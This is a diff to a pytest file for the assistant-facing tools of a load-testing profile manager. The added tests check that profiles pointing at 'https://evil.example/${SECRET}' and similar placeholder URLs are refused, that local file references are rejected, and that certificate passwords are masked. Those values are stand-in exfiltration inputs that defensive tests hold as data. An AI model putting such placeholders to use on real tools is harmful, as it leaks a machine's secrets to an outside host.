@@ -36,6 +36,12 @@ DOCUMENT = {
     "requestHeaders": MASKED,
     "responseScript": WHOLE["responseScript"],
 }
+FIELDS = {
+    "name": "copy",
+    "target_url": "http://127.0.0.1/",
+    "duration_seconds": 60,
+    "points": [{"x": 0, "y": 1}, {"x": 60, "y": 1}],
+}
 SENT = {
     name: value
     for name, value in WHOLE.items()
@@ -103,10 +109,8 @@ def test_text_of_a_profile_keeps_its_lines_and_has_nothing_invisible(asking, ser
 @pytest.mark.parametrize("name", ["CHECKOUT", " checkout\t"])
 def test_a_taken_name_is_refused_before_anything_is_written(asking, server, name):
     other = {"id": 7, "name": "Checkout"}
-    points = [{"x": 0, "y": 1}, {"x": 60, "y": 1}]
-    fields = {"target_url": "http://127.0.0.1/", "duration_seconds": 60, "points": points}
     for tool, arguments, expected in (
-        ("tm_create_profile", {"name": name, **fields}, "tm_update_profile"),
+        ("tm_create_profile", {**FIELDS, "name": name}, "tm_update_profile"),
         ("tm_update_profile", {"profile_id": 42, "name": name}, "another name"),
         ("tm_import_profile", {"profile": {"name": name}}, "overwrite"),
     ):
@@ -158,6 +162,57 @@ def test_hidden_values_are_not_filled_in_where_requests_go_elsewhere(asking, ser
     answer = asking.call("tm_import_profile", profile=document, name="copy")
     assert answer.found["exit_name"] == "USAGE"
     assert "is hidden" in answer.told
+
+
+READY = "https://shop.example/${TOKEN}"
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("tm_create_profile", {**FIELDS, "target_url": "https://evil.example/${SECRET}"}),
+        ("tm_update_profile", {"request_body": "${SECRET:-x}"}),
+        ("tm_update_profile", {"target_url": "https://evil.example/"}),
+        ("tm_update_profile", {"readiness_url": "https://evil.example/${TOKEN}"}),
+        ("tm_import_profile", {"profile": {**DOCUMENT, "requestPayload": "${SECRET}"}}),
+        ("tm_import_profile", {"profile": {**DOCUMENT, "requestHeaders": None, "steps": ["${A}"]}}),
+    ],
+)
+def test_an_assistant_sends_no_variables_of_this_machine(asking, server, tool, arguments):
+    """A start fills placeholders in from the environment."""
+    stored = {**WHOLE, "requestBody": "${TOKEN}", "readinessUrl": READY}
+    if tool == "tm_import_profile":
+        server.answer("GET", "/profiles", [{"id": 42, "name": "checkout"}])
+    if tool != "tm_create_profile":
+        server.profile(**stored)
+    server.features(startValues=True)
+    own = {"profile_id": 42} if tool == "tm_update_profile" else {}
+    answer = asking.call(tool, **own, **arguments)
+    assert answer.found["exit_name"] == "REFUSED"
+    assert "the environment of tm" in answer.told
+
+
+def test_placeholders_that_are_there_stay_and_others_are_text_elsewhere(asking, server):
+    stored = {**WHOLE, "requestBody": "${TOKEN}", "readinessUrl": READY}
+    server.profile(**stored).answer("PUT", "/profiles/42", stored)
+    more = {"request_body": "a=${TOKEN}&b=$${X}", "target_url": f"{WHOLE['targetUrl']}/2"}
+    assert not asking.call("tm_update_profile", profile_id=42, **more).is_error
+    server.profile().features().answer("PUT", "/profiles/42", stored)
+    answer = asking.call("tm_update_profile", profile_id=42, request_body="${SECRET}")
+    assert not answer.is_error
+
+
+@pytest.mark.parametrize("key", ["locustfile", "clientCertificate"])
+def test_an_assistant_names_no_files_of_this_machine(asking, key):
+    answer = asking.call("tm_import_profile", profile={**DOCUMENT, key: {"file": "a"}})
+    assert answer.found["exit_name"] == "USAGE"
+    assert "tm profiles import" in answer.told
+
+
+def test_the_password_of_a_certificate_is_hidden(asking, server):
+    server.profile(clientCertificate={"cert": "a.pem", "password": "s3same"})
+    found = asking.call("tm_get_profile", profile_id=42).found
+    assert found["clientCertificate"] == {"cert": "a.pem", "password": "***"}
 
 
 def test_headers_of_one_name_keep_their_values_and_an_empty_list_is_shown(asking, server):
